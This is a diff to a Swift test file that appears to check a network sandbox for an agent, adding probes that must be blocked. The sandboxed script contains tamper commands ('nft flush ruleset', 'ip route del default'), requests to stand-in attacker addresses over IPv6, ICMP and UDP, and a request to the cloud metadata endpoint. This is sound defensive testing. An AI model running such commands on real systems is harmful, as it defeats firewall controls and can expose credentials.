@@ -56,6 +56,8 @@ import Testing
         if let sessionID {
             let machineLinks = try Netlab.execute(["ip", "-o", "link"], timeout: 10)
             #expect(!machineLinks.stdout.contains("cgs\(sessionID)"), "link on this machine")
+            let machineRules = try Netlab.execute(["nft", "list", "ruleset"], timeout: 10)
+            #expect(!machineRules.stdout.contains("cgs\(sessionID)"), "chains on this machine")
             let cgroups = try Netlab.execute(["find", "/sys/fs/cgroup", "-maxdepth", "6", "-type", "d", "-name", "cagent-\(sessionID)"],
                                              timeout: 20)
             #expect(cgroups.stdout.isEmpty, "cgroup left: \(cgroups.stdout)")
@@ -74,6 +76,12 @@ import Testing
         curl -sS -m 5 -o /dev/null -w 'attacker %{http_code}\\n' http://203.0.113.66/ || echo attacker-failed
         dig +time=2 +tries=1 +short x.attacker.test | sed 's/^/x-answer /'
         dig @198.51.100.8 +time=2 +tries=1 +short y.attacker.test | sed 's/^/y-answer /'
+        nft flush ruleset 2>/dev/null && echo tamper-nft-ok
+        ip route del default 2>/dev/null && echo tamper-route-ok
+        curl -6 -sS -m 5 -o /dev/null http://[2001:db8:66::66]/ 2>/dev/null || echo v6-failed
+        ping -c 1 -W 2 203.0.113.66 >/dev/null 2>&1 || echo ping-failed
+        python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"udp-probe", ("203.0.113.66", 9999))' 2>/dev/null
+        curl -sS -m 5 -o /dev/null http://169.254.169.254/ 2>/dev/null || echo metadata-failed
         exit 7
         """
         let run = try enforce(lab, world, [], script: script)
@@ -89,7 +97,10 @@ import Testing
         // (3) not in the profile: refused, and nothing reached the attacker or the DNS server.
         #expect(out.contains("attacker-failed") || out.contains("attacker 000"), "\(out)")
         #expect(!out.contains("x-answer") && !out.contains("y-answer"), "\(out)")
-        #expect(lab.sinkRecords().filter { $0.contains("203.0.113.66") || $0.contains("198.51.100.8") }.isEmpty,
+        // N6, N7, N9, N11, N18 at product level: v6, ICMP, UDP and metadata fail too; tampering is refused.
+        for marker in ["v6-failed", "ping-failed", "metadata-failed"] { #expect(out.contains(marker), "\(out)") }
+        #expect(!out.contains("tamper-"), "\(out)")
+        #expect(lab.sinkRecords().filter { $0.contains("203.0.113.66") || $0.contains("198.51.100.8") || $0.contains("2001:db8:66::66") }.isEmpty,
                 "the sink saw the sandbox: \(lab.sinkRecords())")
         #expect(lab.dnsQueries(containing: "attacker.test").isEmpty, "the DNS server saw \(lab.dnsQueries(containing: "attacker.test"))")
         // (4) one readable line per denial.
@@ -111,7 +122,13 @@ import Testing
         _ = try lab.run(in: .host, ["curl", "-sS", "-m", "3", "-o", "/dev/null", "http://203.0.113.66/"])
         _ = try lab.run(in: .host, ["dig", "+time=2", "+tries=1", "@\(NetlabAddresses.dns4)", "x.attacker.test"])
         _ = try lab.run(in: .host, ["dig", "+time=2", "+tries=1", "@198.51.100.8", "y.attacker.test"])
+        _ = try lab.run(in: .host, ["curl", "-6", "-sS", "-m", "3", "-o", "/dev/null", "http://[2001:db8:66::66]/"])
+        _ = try lab.run(in: .host, ["ping", "-c", "1", "-W", "2", "203.0.113.66"])
+        _ = try lab.run(in: .host, ["python3", "-c", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'udp-probe', ('203.0.113.66', 9999))"])
         #expect(lab.sinkRecords().contains { $0.contains("203.0.113.66") }, "control: the sink records a direct connection")
+        #expect(lab.sinkRecords().contains { $0.contains("2001:db8:66::66") }, "control: the sink records IPv6")
+        #expect(lab.sinkRecords().contains { $0.contains("ICMP echo request") || $0.contains("ICMP") }, "control: the sink records ping")
+        #expect(lab.sinkRecords().contains { $0.contains("9999") }, "control: the sink records UDP")
         #expect(lab.sinkRecords().contains { $0.contains("198.51.100.8") }, "control: the sink records the public resolver query")
         #expect(!lab.dnsQueries(containing: "x.attacker.test").isEmpty, "control: the DNS log records the query")
     }
